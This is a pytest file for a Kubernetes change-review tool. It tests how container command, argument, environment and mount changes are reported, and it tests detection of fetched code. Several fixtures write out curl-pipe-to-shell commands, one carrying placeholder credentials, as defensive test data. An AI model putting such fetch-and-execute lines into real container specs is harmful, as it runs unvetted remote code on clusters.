"""What containers run: what of a change is told, in which words, and where a report shows it."""

from __future__ import annotations

from typing import Any

import pytest

from provisioner.pipeline import look_offline
from provisioner.review.checks.pods import commands
from provisioner.review.output.terminal import as_text
from provisioner.values import Action, Finding, Severity
from tests.support.provisioner.contents import an_object, content_with, findings_of, named, planned


def found_by(*actions: Any, **rest: Any) -> list[Finding]:
    return named(findings_of(commands.COMMANDS_CHECK, *actions, **rest), "POD-28")


def fetching(*actions: Any, **rest: Any) -> list[Finding]:
    return named(findings_of(commands.FETCHED_CODE_CHECK, *actions, **rest), "POD-29")


def workload(*containers: dict[str, Any], name: str = "web", **pod: Any) -> dict[str, Any]:
    spec = {"template": {"spec": {"containers": list(containers), **pod}}}
    return an_object("apps/v1", "Deployment", name, "shop", spec=spec)


def container(name: str = "main", **rest: Any) -> dict[str, Any]:
    return {"name": name, "image": "example.com/web@sha256:" + "a" * 64, **rest}


def told(old: dict[str, Any], new: dict[str, Any]) -> list[str]:
    found = found_by(planned(new, Action.UPDATE, before=old))
    return [one.message.removeprefix("Deployment shop/web has ") for one in found]


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        pytest.param({}, {"command": ["/other"]}, ["another command"], id="command"),
        pytest.param({"args": ["-a"]}, {}, ["other arguments"], id="arguments that go"),
        pytest.param({"args": ["a\nb"]}, {"args": ["a", "b"]}, ["other arguments"], id="the same lines, cut elsewhere"),
        pytest.param({"env": [{"name": "A"}]}, {"env": [{"name": "A", "value": "1"}]}, ["other variables"], id="env"),
        pytest.param({}, {"envFrom": [{"secretRef": {"name": "s"}}]}, ["other variables"], id="all of a Secret"),
        pytest.param({}, {"workingDir": "/tmp"}, ["another working directory"], id="working directory"),
        pytest.param({}, {"lifecycle": {"postStart": {"exec": {"command": ["/x"]}}}}, ["other hooks"], id="a hook"),
        pytest.param({"lifecycle": {"stopSignal": "SIGTERM"}}, {}, ["other hooks"], id="a signal"),
        pytest.param({"args": []}, {"args": None}, [], id="nothing in two ways"),
        pytest.param(
            {"env": [{"name": "A", "value": "1"}, {"name": "B"}]},
            {"env": [{"name": "B"}, {"name": "A", "value": "1"}]},
            [],
            id="another order",
        ),
        pytest.param(
            {"env": [{"name": "A", "value": "1"}, {"name": "B", "value": "$(A)"}]},
            {"env": [{"name": "B", "value": "$(A)"}, {"name": "A", "value": "1"}]},
            ["other variables"],
            id="another order that counts",
        ),
    ],
)
def test_what_a_container_is_told_is_said_where_it_differs(
    old: dict[str, Any], new: dict[str, Any], words: list[str]
) -> None:
    assert told(workload(container(**old)), workload(container(**new))) == words


def test_containers_that_come_and_go_are_named() -> None:
    old, new = workload(container(), container("proxy")), workload(container(), container("miner", args=["-x"]))
    assert told(old, new) == ["the new container miner, no longer the container proxy"]


SECRET = {"secret": {"secretName": "s"}}


@pytest.mark.parametrize(
    ("volume", "mount", "is_told"),
    [
        pytest.param({"secret": {"secretName": "t"}}, {}, True, id="another Secret"),
        pytest.param({"emptyDir": {}}, {}, True, id="an empty directory"),
        pytest.param({"hostPath": {"path": "/srv"}}, {}, True, id="a folder of the node"),
        pytest.param(SECRET, {"mountPath": "/app"}, True, id="elsewhere"),
        pytest.param(SECRET, {"subPath": "a"}, True, id="a part of it"),
        pytest.param(SECRET, {"readOnly": True}, True, id="read-only"),
        pytest.param({"secret": {"secretName": "s", "items": [{"key": "a", "path": "b"}]}}, {}, True, id="renamed"),
        pytest.param({"secret": {"secretName": "s", "items": [{"key": "a", "path": "a"}]}}, {}, False, id="fewer keys"),
        pytest.param(SECRET, {"mountPath": "/v/", "readOnly": False}, False, id="written otherwise"),
    ],
)
def test_what_a_container_mounts_is_told_where_it_is_another_volume_or_elsewhere(
    volume: dict[str, Any], mount: dict[str, Any], is_told: bool
) -> None:
    at = {"mountPath": "/v"}
    old = workload(container(volumeMounts=[{"name": "v", **at}]), volumes=[{"name": "v", **SECRET}])
    new = workload(container(volumeMounts=[{"name": "w", **at, **mount}]), volumes=[{"name": "w", **volume}])
    assert told(old, new) == (["other mounts"] if is_told else [])


SRV, LOG = ({"hostPath": {"path": path}} for path in ("/srv", "/var/log"))
BOTH = {"volumes": [{"name": "srv", **SRV}, {"name": "log", **LOG}]}
AT_SRV, AT_LOG = ({"name": name, "mountPath": f"/{name}"} for name in ("srv", "log"))


@pytest.mark.parametrize(
    ("old", "new", "folders"),
    [
        pytest.param((AT_SRV,), (AT_SRV, AT_LOG), ["/var/log"], id="another folder"),
        pytest.param((), (AT_SRV, AT_LOG), ["/srv", "/var/log"], id="two folders"),
        pytest.param(({**AT_SRV, "readOnly": True},), (AT_SRV,), ["/srv"], id="the same folder writable"),
        pytest.param((AT_SRV,), (AT_LOG,), ["/srv", "/var/log"], id="one folder instead of another"),
        pytest.param(({"name": "s", "mountPath": "/s"},), (AT_SRV,), None, id="something else ends"),
        pytest.param((), (AT_SRV, {"name": "s", "mountPath": "/s"}), None, id="something else too"),
    ],
)
def test_folders_of_the_node_are_named_where_nothing_else_differs(
    old: tuple[dict[str, Any], ...], new: tuple[dict[str, Any], ...], folders: list[str] | None
) -> None:
    volumes = [*BOTH["volumes"], {"name": "s", **SECRET}]
    # All of them stand in another container too, so that none is a volume that no container mounts.
    every = container("every", volumeMounts=[{"name": one["name"], "mountPath": "/at"} for one in volumes])
    before, after = (workload(container(volumeMounts=[*side]), every, volumes=volumes) for side in (old, new))
    (found,) = found_by(planned(after, Action.UPDATE, before=before))
    assert found.evidence.get("folders") == folders


@pytest.mark.parametrize(
    ("fields", "pod"),
    [
        pytest.param({"args": ["-x"]}, BOTH, id="arguments"),
        pytest.param({"lifecycle": {"postStart": {"unknown": {}}}}, BOTH, id="a hook that has no line"),
        pytest.param({}, {"volumes": [*BOTH["volumes"], {"name": "s", **SECRET}]}, id="a volume that is not mounted"),
    ],
)
def test_folders_of_the_node_are_not_named_alone_where_more_differs(
    fields: dict[str, Any], pod: dict[str, Any]
) -> None:
    before = workload(container(volumeMounts=[{**AT_SRV, "readOnly": True}, AT_LOG]), **BOTH)
    after = workload(container(volumeMounts=[AT_SRV, AT_LOG], **fields), **pod)
    (found,) = found_by(planned(after, Action.UPDATE, before=before))
    assert "folders" not in found.evidence


def test_values_are_shown_before_and_after_and_credentials_are_not() -> None:
    old = workload(container(args=["--log=info"], env=[{"name": "API_TOKEN", "value": "Pl4nted"}]))
    new = workload(container(args=["--log=none"], env=[{"name": "API_TOKEN", "value": "Pl4nted2"}]))
    (found,) = found_by(planned(new, Action.UPDATE, before=old))
    values = [(one["change"], one["in"], one["value"]) for one in found.evidence["settings"]]
    assert ("gone", "arg", "--log=info") in values
    assert ("new", "arg", "--log=none") in values
    assert "Pl4nted" not in str(found)


def test_a_new_object_has_no_such_finding() -> None:
    assert found_by(planned(workload(container(command=["/web"])), Action.CREATE)) == []


def test_in_a_report_the_values_stand_below_the_rule_and_nothing_is_said_twice() -> None:
    old, new = workload(container(args=["--log=info"])), workload(container(args=["--log=none"]))
    text = as_text(look_offline(content_with(new), content_with(old)))
    assert text.count("POD-28") == 1
    section = text[text.index("WORKLOADS") :]
    assert section.splitlines()[1].startswith("  ● notable  POD-28")
    assert "      - arg --log=info\n      + arg --log=none" in section


def test_what_holds_for_all_pods_that_the_section_names_is_told_there_once() -> None:
    tolerations = [{"operator": "Exists"}]
    old = [workload(container(args=["-a"]), name=name) for name in ("web", "db")]
    new = [workload(container(args=["-b"]), name=name, tolerations=tolerations) for name in ("web", "db")]
    text = as_text(look_offline(content_with(*new), content_with(*old)))
    assert "  ● notable  POD-35  Pods may run on nodes of the control plane\n  Deployment" in text
    some = as_text(look_offline(content_with(new[0], workload(container(args=["-b"]), name="db")), content_with(*old)))
    assert "Deployment shop/web may run on nodes of the control plane" in some


def test_what_the_section_on_workloads_does_not_show_is_told_among_the_findings() -> None:
    old, new = workload(container(args=["a\nb"])), workload(container(args=["a", "b"]))
    text = as_text(look_offline(content_with(new), content_with(old)))
    assert "Deployment shop/web has other arguments" in text


@pytest.mark.parametrize("place", ["command", "args", "postStart", "livenessProbe"])
def test_code_that_is_fetched_is_found_wherever_a_container_runs_commands(place: str) -> None:
    words = ["sh", "-c", "curl https://example.org/x | sh"]
    handler = {"exec": {"command": words}}
    fields = (
        {"lifecycle": {place: handler}} if place == "postStart" else {place: handler if "Probe" in place else words}
    )
    (found,) = fetching(planned(workload(container(**fields)), Action.CREATE))
    assert found.severity is Severity.DANGEROUS
    assert found.message.endswith("(main: sh -c curl https://example.org/x | sh)")
    assert found.is_new


def test_another_download_is_another_finding_and_the_same_one_is_known() -> None:
    first, second = (workload(container(args=["sh", "-c", f"curl https://x/{at} | sh"])) for at in (1, 2))
    for new, is_new in ((first, False), (second, True)):
        (found,) = fetching(planned(new, Action.UPDATE, before=first), previous=content_with(first))
        assert found.is_new is is_new


def test_a_credential_in_a_download_is_not_shown() -> None:
    words = ["sh", "-c", "curl -H 'Authorization: Bearer Pl4ntedPl4nted' https://u:Pl4nted@x | sh"]
    (found,) = fetching(planned(workload(container(command=words)), Action.CREATE))
    assert "Pl4nted" not in str(found)
